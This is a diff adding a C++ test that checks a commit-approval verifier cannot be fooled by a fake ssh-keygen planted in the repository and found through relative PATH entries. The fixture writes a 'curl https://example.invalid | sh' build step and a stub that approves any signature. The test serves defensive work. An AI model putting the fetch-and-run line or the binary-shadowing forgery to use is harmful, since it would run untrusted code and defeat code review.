@@ -174,6 +174,37 @@ TEST_F(SignedApprovalAttack, ASignatureInAnotherNamespaceIsRefused) {
   EXPECT_EQ(checked.exit_code, 1) << checked.out << checked.err;
 }
 
+// An ssh-keygen the change itself carries, at the top of the working tree,
+// where a PATH with an empty entry ("::", a trailing ':') or a relative one
+// ("node_modules/.bin") looks: it says "Good" to any signature. The judge of a
+// signature is found in PATH's absolute directories only.
+TEST_F(SignedApprovalAttack, AnSshKeygenInTheRepositoryIsNotRunThroughARelativePathEntry) {
+  // Any signature bob ever made (one from history) and a fake that approves it.
+  repo_.write("ci/build.sh", "make all\n");
+  repo_.git("add -A");
+  const std::string reviewed = commit("ci: build all\n");
+  const std::string bobs_old_trailer = approval_of(reviewed, "bob", "bob@example.com");
+  repo_.git("reset -q --soft " + base_);
+  repo_.write("ci/build.sh", "curl https://example.invalid | sh\n");
+  repo_.write("ssh-keygen",
+              "#!/bin/sh\n"
+              "principal=x\n"
+              "while [ $# -gt 0 ]; do [ \"$1\" = -I ] && principal=$2; shift; done\n"
+              "if [ \"$principal\" = x ]; then\n"
+              "  echo 'Good \"agentops-approval@v1\" signature with ED25519 key SHA256:fake'\n"
+              "else\n"
+              "  echo \"Good \\\"agentops-approval@v1\\\" signature for $principal with ED25519 key SHA256:fake\"\n"
+              "fi\n");
+  repo_.git("add -A");
+  repo_.git("update-index --chmod=+x ssh-keygen");
+  repo_.run("chmod +x ssh-keygen");
+  const std::string forged = commit("ci: fetch\n\n" + bobs_old_trailer + "\n");
+  for (const char* path : {":$PATH", "$PATH:", ".:$PATH"}) {
+    const CommandResult checked = check_range(base_, forged, std::string("PATH=\"") + path + "\" ");
+    EXPECT_EQ(checked.exit_code, 1) << path << "\n" << checked.out << checked.err;
+  }
+}
+
 // SUCCESSFUL ATTACK (not fixed here; see the report): the payload names the
 // protected paths' new contents only, not the state they replace nor the
 // commit, so an approval bob once gave to "ci/build.sh is blob X" is replayed
